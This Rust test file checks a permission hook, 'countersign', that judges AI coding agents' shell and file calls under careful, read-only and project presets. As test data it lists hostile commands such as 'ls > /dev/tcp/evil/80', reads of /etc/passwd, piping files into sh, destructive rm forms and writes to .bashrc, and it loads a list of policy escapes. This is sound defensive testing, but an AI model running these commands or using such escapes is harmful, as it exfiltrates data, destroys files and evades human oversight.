//! The policies that `policy init` writes: what passes under each, and sessions of agents under
//! "project".

use std::collections::BTreeMap;

use countersign::agent::{
    Agent, FoundProject, HookEvent, HookPolicy, PolicyJudgement, PolicyKind, with_commands,
    with_preset,
};
use serde_json::{Value, json};

use super::inputs::{named, places};
use super::policy::{Is, bash, judge, parse, read};

fn digests() -> BTreeMap<String, String> {
    ["Cargo.toml", "Makefile", "package.json"]
        .map(|name| (name.to_owned(), format!("digest of {name}")))
        .into()
}

fn found() -> FoundProject {
    let commands = [
        "cargo build [--release]",
        "cargo check",
        "cargo check --all-targets",
        "cargo clippy --all-targets",
        "cargo fmt [--all] [--check]",
        "cargo test [--workspace] [--no-fail-fast] [--quiet] …",
        "npm run build",
        "npm run lint",
        "npm run test",
        "npm test",
        "make lint",
        "make test",
    ];
    FoundProject {
        root: "/srv/project".into(),
        commands: commands.map(str::to_owned).into(),
        output: vec!["dist".to_owned(), "target".to_owned()],
        files: digests(),
    }
}

fn preset(kind: PolicyKind) -> HookPolicy {
    let mut policy = parse(&with_preset(None, kind, Some(&found())).unwrap());
    policy.compare_files(digests);
    policy
}

fn write(policy: &HookPolicy, path: &str) -> Is {
    let input = json!({ "file_path": path, "content": "" });
    judge(policy, Agent::Claude, "Write", &input)
}

/// Whether it is asked, its tool and its input.
type Step = (bool, String, Value);

fn sessions() -> Vec<(Agent, Vec<Step>)> {
    let mut sessions: Vec<(Agent, Vec<_>)> = Vec::new();
    for line in include_str!("sessions.txt").lines() {
        if let Some(agent) = line.strip_prefix("## ") {
            sessions.push((agent.parse().unwrap(), Vec::new()));
        } else if let Some((mark, call)) = line.split_once(' ').filter(|(mark, _)| *mark != "#") {
            let (tool, input) = call.split_once(' ').unwrap();
            let asked = mark == "ask";
            assert!(asked || mark == "free", "{line}");
            let input = serde_json::from_str(input).unwrap_or_else(|_| panic!("{line}"));
            sessions
                .last_mut()
                .unwrap()
                .1
                .push((asked, tool.to_owned(), input));
        }
    }
    sessions
}

#[test]
fn twenty_steps_of_every_agent_ask_at_most_four_times() {
    let (policy, without) = (preset(PolicyKind::Project), HookPolicy::default());
    let sessions = sessions();
    let agents: Vec<_> = sessions.iter().map(|(agent, _)| *agent).collect();
    assert!(Agent::ALL.iter().all(|agent| agents.contains(agent)));
    for (agent, steps) in sessions {
        assert_eq!(steps.len(), 20, "{agent}");
        let count = |policy: &HookPolicy| {
            let asked = |(_, tool, input): &&Step| judge(policy, agent, tool, input) != Is::Free;
            steps.iter().filter(asked).count()
        };
        let (asked, before) = (count(&policy), count(&without));
        println!("{agent}: {asked} of 20, without a policy {before}");
        for (is_asked, tool, input) in &steps {
            let expected = if *is_asked { Is::Asked } else { Is::Free };
            assert_eq!(
                judge(&policy, agent, tool, input),
                expected,
                "{agent} {tool} {input}"
            );
        }
        assert!(asked <= 4 && before >= 10, "{agent}: {asked} of {before}");
    }
}

#[test]
fn careful_lets_reading_pass_and_asks_about_every_change() {
    let policy = preset(PolicyKind::Careful);
    assert_eq!(read(&policy, "src/a"), Is::Free);
    for command in ["ls -la", "git diff | head", "grep -rn x src"] {
        assert_eq!(bash(&policy, command), Is::Free, "{command}");
    }
    for command in [
        "cargo test",
        "mkdir a",
        "ls > a",
        "rm -rf target",
        "touch a",
    ] {
        assert_eq!(bash(&policy, command), Is::Asked, "{command}");
    }
    assert_eq!(write(&policy, "src/a"), Is::Asked);
}

#[test]
fn read_only_denies_every_change_and_asks_about_the_rest() {
    let policy = preset(PolicyKind::ReadOnly);
    assert_eq!(read(&policy, "src/a"), Is::Free);
    assert_eq!(read(&policy, "/etc/hosts"), Is::Asked);
    assert_eq!(read(&policy, ".env"), Is::AlwaysAsked);
    assert_eq!(bash(&policy, "git log | head -3"), Is::Free);
    for command in [
        "cargo test",
        "rm a",
        "ls > a",
        "ls $(a)",
        "tee .bashrc",
        "cat /etc/hosts",
    ] {
        assert_eq!(bash(&policy, command), Is::Denied, "{command}");
    }
    assert_eq!(write(&policy, "src/a"), Is::Denied);
    assert_eq!(write(&policy, ".env"), Is::Denied);
    let plan = json!({ "plan": "x" });
    assert_eq!(
        judge(&policy, Agent::Claude, "ExitPlanMode", &plan),
        Is::Asked
    );
    let page = json!({ "url": "https://example.org", "prompt": "x" });
    assert_eq!(judge(&policy, Agent::Claude, "WebFetch", &page), Is::Asked);
    let tool = json!({});
    assert_eq!(
        judge(&policy, Agent::Claude, "mcp__a__b", &tool),
        Is::Denied
    );
}

#[test]
fn reading_commands_pass_only_with_options_that_read() {
    let policy = preset(PolicyKind::Project);
    for command in [
        "cat a",
        "cat -n a b",
        "ls",
        "ls -la src",
        "ls -1",
        "head -20 a",
        "head -n 20 a",
        "tail -n +5 a",
        "grep -rn \"fn x\" src",
        "grep -A3 -B3 x a",
        "rg -n x src",
        "rg -g '*.rs' x",
        "find . -name '*.rs' -type f",
        "find src -maxdepth 2 -mtime -7",
        "sed -n 1,20p a",
        "sed -n '5p' a",
        "wc -l a",
        "sort -u a",
        "sort -t: -k2 a",
        "uniq -c",
        "cut -d: -f1 a",
        "tr a-z A-Z",
        "stat a",
        "tree -L 2",
        "du -sh src",
        "file a",
        "git status",
        "git diff --cached",
        "git log -5 --oneline",
        "git log -p -n 3 src/a",
        "git show HEAD:src/a",
        "git --no-pager diff",
        "git branch -a",
        "git branch --show-current",
        "git remote -v",
        "git stash list",
        "git rev-parse --abbrev-ref HEAD",
        "git ls-files src",
        "git blame -L 1,5 a",
        "git status -uno",
        "echo done",
        "printf '%s' a",
        "date +%F",
        "which cargo",
        "make --version",
        "git --version",
        "pwd",
        "true && false || echo no",
        "cat < src/a",
        "comm -12 a b",
        "cd . && ls",
        "cd /srv/project; ls",
    ] {
        assert_eq!(bash(&policy, command), Is::Free, "{command}");
    }
    for command in [
        "cat /etc/passwd",
        "cat ../other",
        "ls /",
        "tail -f a",
        "grep -f /etc/passwd a",
        "grep -R x src",
        "rg --pre sh x",
        "rg -z x",
        "rg -L x",
        "rg -f a",
        "find . -delete",
        "find . -exec rm a",
        "find . -fprint a",
        "find -L .",
        "find . -ok a",
        "find / -name a",
        "sed -i s/a/b/ a",
        "sed -n 1w a",
        "sed -n 1e a",
        "sed -n 1,2p -i a",
        "sed -n '1,2p;w b' a",
        "sed 1,2p a",
        "sed -ne 1p a",
        "sort -o a b",
        "sort --output=a b",
        "sort a -o b",
        "sort --compress-program=a b",
        "sort -T /tmp a",
        "uniq a b",
        "tree -o a",
        "tee /etc/a",
        "file -C -m a",
        "file -f a",
        "date 01010000",
        "date -s now",
        "git branch a",
        "git branch -D a",
        "git branch -m a b",
        "git tag a",
        "git remote add a b",
        "git remote update",
        "git stash",
        "git stash drop",
        "git log --output=a",
        "git diff --output=a",
        "git diff --no-index a b",
        "git diff --ext-diff",
        "git diff -Oa",
        "git grep -O a",
        "git -C a status",
        "git -c a=b diff",
        "git --git-dir=a log",
        "git blame --contents=a b",
        "git reflog expire",
        "git cat-file --textconv a",
        "git fetch",
        "git ls-files -X a",
        "git show --output=a",
        "git config a",
        "xxd a b",
        "xargs ls",
        "awk 1 a",
        "less a",
        "env",
        "printenv",
        "printf -v a b",
        "cd src && ls",
        "cd .. && ls",
        "cd && ls",
        "cd - && ls",
        "cd /srv/project/../other; ls",
        "cd src; cargo test",
        "chdir src && ls",
        "cargo --version x",
        "./cargo --version",
        "evil --version",
        "wc --files0-from=a",
        "du --files0-from=a",
        "stat -f --file-system /etc",
        "ls | xargs rm",
        "cat a | sh",
        "cat a | cargo test",
        "cat a | git apply",
        "ls | tee /etc/a",
        "echo a | tee ../b",
        "cat a | python3",
        "ls | cd",
        "cat < /etc/passwd",
        "ls > /tmp/a",
        "ls > ../a",
        "ls >> /home/dev/a",
        "ls > /dev/tcp/evil/80",
        "ls 2> /tmp/a",
        "mkdir /tmp/a",
        "mkdir -m 777 a",
        "touch -r /etc/passwd a",
        "touch ../a",
        "rm a",
        "rm -rf src",
        "rm -rf .",
        "rm -rf target/..",
        "rm -rf targets",
        "rm -rf dist src",
        "rm --no-preserve-root target",
        "rm target -i",
    ] {
        assert_ne!(bash(&policy, command), Is::Free, "{command}");
    }
    for command in [
        "rm -rf target",
        "rm -r dist/a target/debug",
        "mkdir -p a/b",
        "touch a",
        "ls | tee a.txt",
        "ls >> a",
    ] {
        assert_eq!(bash(&policy, command), Is::Free, "{command}");
    }
    // These names are asked in whatever way they are written.
    for command in [
        "ls > .bashrc",
        "ls > .git/config",
        "echo x | tee .envrc",
        "touch node_modules/a",
        "mkdir .husky",
        "ls > venv/a",
    ] {
        assert_eq!(bash(&policy, command), Is::AlwaysAsked, "{command}");
    }
    assert_eq!(
        bash(&policy, "ls > /home/dev/.config/countersign/policy.toml"),
        Is::Denied
    );
    assert_eq!(
        bash(&policy, "cat a | tee /home/dev/.config/countersign/a"),
        Is::Denied
    );
}

#[test]
fn one_part_that_is_asked_is_enough() {
    let policy = preset(PolicyKind::Project);
    let free = [
        "ls",
        "cargo test",
        "git diff | head -5",
        "npm run lint 2>&1 | tail -3",
    ];
    let asked = [
        "git push",
        "rm -rf src",
        "curl x",
        "sh -c ls",
        "npm install",
        "evil",
        "cargo run",
        "ls &",
    ];
    for free in free {
        for asked in asked {
            for operator in ["&&", "||", ";", "|"] {
                for command in [
                    format!("{free} {operator} {asked}"),
                    format!("{asked} {operator} {free}"),
                ] {
                    assert_eq!(bash(&policy, &command), Is::Asked, "{command}");
                }
            }
        }
    }
}

#[test]
fn a_command_of_the_project_counts_as_long_as_its_file_is_the_same() {
    let policy = || parse(&with_preset(None, PolicyKind::Project, Some(&found())).unwrap());
    let with = |change: &dyn Fn(&mut BTreeMap<String, String>)| {
        let mut policy = policy();
        let mut current = digests();
        change(&mut current);
        policy.compare_files(|| current);
        policy
    };
    let changed = |name: &'static str, to: &'static str| {
        with(&move |files| {
            files.insert(name.to_owned(), to.to_owned());
        })
    };
    let as_it_was = with(&|_| ());
    for command in [
        "npm test",
        "make test",
        "cargo test a",
        "npm run lint && make lint",
    ] {
        assert_eq!(bash(&as_it_was, command), Is::Free, "{command}");
    }
    let package = changed("package.json", "other");
    assert_eq!(bash(&package, "npm test"), Is::Asked);
    assert_eq!(bash(&package, "make test"), Is::Free);
    // Make takes it before the other one.
    let makefile = changed("GNUmakefile", "new");
    assert_eq!(bash(&makefile, "make test"), Is::Asked);
    assert_eq!(bash(&makefile, "npm test"), Is::Free);
    let gone = with(&|files| {
        files.remove("Makefile");
    });
    assert_eq!(bash(&gone, "make test"), Is::Asked);
    let unreadable = changed("Makefile", "unreadable");
    assert_eq!(bash(&unreadable, "make test"), Is::Asked);
    let text = with_preset(
        None,
        PolicyKind::Project,
        Some(&FoundProject {
            files: [("Makefile".to_owned(), "unreadable".to_owned())].into(),
            ..found()
        }),
    );
    let mut both = parse(&text.unwrap());
    both.compare_files(|| [("Makefile".to_owned(), "unreadable".to_owned())].into());
    assert_eq!(bash(&both, "make test"), Is::Asked);
    // Nobody has looked at the files.
    assert_eq!(bash(&policy(), "npm test"), Is::Asked);
    for command in [
        "echo x > package.json && npm test",
        "echo x > sub/../package.json; npm test",
        "cat a | tee Makefile && make test",
        "touch GNUmakefile && make test",
        "touch gnumakefile && make test",
        "ls >> Cargo.toml; cargo test",
    ] {
        assert_eq!(bash(&as_it_was, command), Is::Asked, "{command}");
    }
}

#[test]
fn a_project_is_known_by_its_path_alone() {
    let mut found = found();
    found.root = "/srv/other".into();
    let policy = parse(&with_preset(None, PolicyKind::Project, Some(&found)).unwrap());
    assert_eq!(bash(&policy, "make test"), Is::Asked);
    assert_eq!(bash(&policy, "rm -rf target"), Is::Asked);
    assert_eq!(bash(&policy, "ls"), Is::Free);
}

#[test]
fn a_policy_keeps_what_its_user_wrote() {
    let own = "# mine\n[allow]\ntools = [\"web\"]\ncommands = [\"date\"] # often\n\n[ask]\npaths = [\"~/private\"]\n";
    let text = with_preset(Some(own), PolicyKind::Project, Some(&found())).unwrap();
    for kept in [
        "# mine\n",
        "commands = [\"date\"] # often",
        "paths = [\"~/private\"]",
    ] {
        assert!(text.contains(kept), "{text}");
    }
    assert!(!text.contains("web"), "{text}");
    let twice = with_preset(Some(&text), PolicyKind::Project, Some(&found())).unwrap();
    assert_eq!(text, twice);
    let mut other = found();
    other.root = "/srv/other".into();
    let both = with_preset(Some(&text), PolicyKind::Project, Some(&other)).unwrap();
    assert!(
        both.contains("[project.\"/srv/project\"]") && both.contains("[project.\"/srv/other\"]"),
        "{both}"
    );
    let read_only = with_preset(Some(&both), PolicyKind::ReadOnly, None).unwrap();
    assert!(read_only.contains("changes = \"deny\""), "{read_only}");
    let careful = with_preset(Some(&read_only), PolicyKind::Careful, None).unwrap();
    assert!(!careful.contains("changes ="), "{careful}");
    for text in [&text, &both, &read_only, &careful] {
        HookPolicy::parse(text, &places()).unwrap();
    }
    for (own, part) in [
        ("a = ", "cannot be read"),
        ("allow = { tools = [] }", "allow"),
        ("project = 1", "project"),
    ] {
        let refused = with_preset(Some(own), PolicyKind::Project, Some(&found())).unwrap_err();
        assert!(refused.contains(part), "{refused}");
    }
}

#[test]
fn further_commands_of_a_project_are_bound_to_their_files_too() {
    let root = std::path::Path::new("/srv/project");
    let commands = ["make docs".to_owned()];
    let text = with_commands(None, root, &commands, &digests()).unwrap();
    let mut policy = parse(&text);
    policy.compare_files(digests);
    assert_eq!(bash(&policy, "make docs"), Is::Free);
    assert_eq!(bash(&policy, "make other"), Is::Asked);
    policy.compare_files(BTreeMap::new);
    assert_eq!(bash(&policy, "make docs"), Is::Asked);
    // One of them would allow a command that nobody has looked at.
    let mut changed = digests();
    changed.insert("Makefile".to_owned(), "other".to_owned());
    let refused = with_commands(Some(&text), root, &["make more".to_owned()], &changed);
    assert!(
        refused.unwrap_err().starts_with("Makefile has changed"),
        "{text}"
    );
    let more = with_commands(Some(&text), root, &["evil-but-wanted".to_owned()], &changed).unwrap();
    let mut policy = parse(&more);
    policy.compare_files(|| changed);
    assert_eq!(bash(&policy, "make docs"), Is::Asked);
    assert_eq!(bash(&policy, "evil-but-wanted"), Is::Free);
}

#[test]
fn a_section_of_a_project_that_makes_no_sense_says_so() {
    for (text, expected) in [
        ("[project.a]\ncommands = []", "must begin with /"),
        ("[project.\"/a\"]\ncomands = []", "unknown field"),
        (
            "[project.\"/a\"]\ncommands = ['ls; rm']",
            "more than plain words",
        ),
        ("[project.\"/a\"]\noutput = ['../b']", "name of a directory"),
        ("[project.\"/a\"]\noutput = ['.']", "name of a directory"),
        ("[project.\"/a\"]\noutput = ['']", "name of a directory"),
        (
            "[project.\"/a\"]\nfiles = { \"a.txt\" = \"x\" }",
            "not a file that defines commands",
        ),
        ("changes = 'forbid'", "unknown variant"),
    ] {
        let refused = HookPolicy::parse(text, &places()).unwrap_err();
        assert!(refused.contains(expected), "{text}: {refused}");
    }
}

/// Ways around a policy from `escapes.txt`, and ways that only parts, projects and reading commands
/// open.
#[test]
fn no_known_escape_passes_under_project() {
    let policy = preset(PolicyKind::Project);
    // More than the example of the guide allows; each of them only reads.
    let only_read = [
        "cat src/main.rs",
        "find . -name x",
        "git status --porcelain",
        "git status -uno",
    ];
    let (mut count, mut wrong) = (0, Vec::new());
    for line in include_str!("escapes.txt").lines() {
        let Some((kind, text)) = line.split_once(": ").filter(|_| !line.starts_with('#')) else {
            continue;
        };
        let judged = match kind {
            "edit" => write(&policy, text),
            "read" => read(&policy, text),
            _ => bash(&policy, text),
        };
        count += 1;
        let expected = only_read.contains(&text);
        if (judged == Is::Free) != expected {
            wrong.push(line);
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(count >= 400, "{count}");
}

/// Below the root, other files say what the same commands do.
#[test]
fn commands_of_the_project_count_in_its_root_alone() {
    let policy = preset(PolicyKind::Project);
    for (directory, is) in [
        ("/srv/project", Is::Free),
        (".", Is::Free),
        ("/srv/project/sub", Is::Asked),
    ] {
        let input = json!({ "command": "make test", "dir_path": directory });
        let judged = judge(&policy, Agent::Gemini, "run_shell_command", &input);
        assert_eq!(judged, is, "{directory}");
    }
    let mut places = places();
    places.directory = "/srv/project/sub".into();
    for command in ["make test", "rm -rf target", "rm -rf ../src"] {
        let event = json!({
            "hook_event_name": "PreToolUse", "cwd": "/srv/project/sub", "tool_name": "Bash",
            "tool_input": { "command": command },
        });
        let event = HookEvent::read(Agent::Claude, event.to_string().as_bytes()).unwrap();
        let call = event.call().unwrap();
        let names = named(&places, &call.named_paths().unwrap());
        let judged = policy.judge(Agent::Claude, call, &places, Some(&names));
        assert_eq!(judged, PolicyJudgement::Asked, "{command}");
    }
}

/// A file that says what a command does has another name behind a link.
#[test]
fn a_bound_file_behind_a_link_is_bound_too() {
    let policy = preset(PolicyKind::Project);
    let event = json!({
        "hook_event_name": "PreToolUse", "cwd": "/srv/project", "tool_name": "Bash",
        "tool_input": { "command": "echo x > other && make test" },
    });
    let event = HookEvent::read(Agent::Claude, event.to_string().as_bytes()).unwrap();
    let call = event.call().unwrap();
    let mut names = named(&places(), &call.named_paths().unwrap());
    let judged = policy.judge(Agent::Claude, call, &places(), Some(&names));
    assert_eq!(judged, PolicyJudgement::NotAsked);
    for name in names.iter_mut().filter(|it| it.path.ends_with("other")) {
        name.real = "/srv/project/Makefile".into();
    }
    let judged = policy.judge(Agent::Claude, call, &places(), Some(&names));
    assert_eq!(judged, PolicyJudgement::Asked);
}
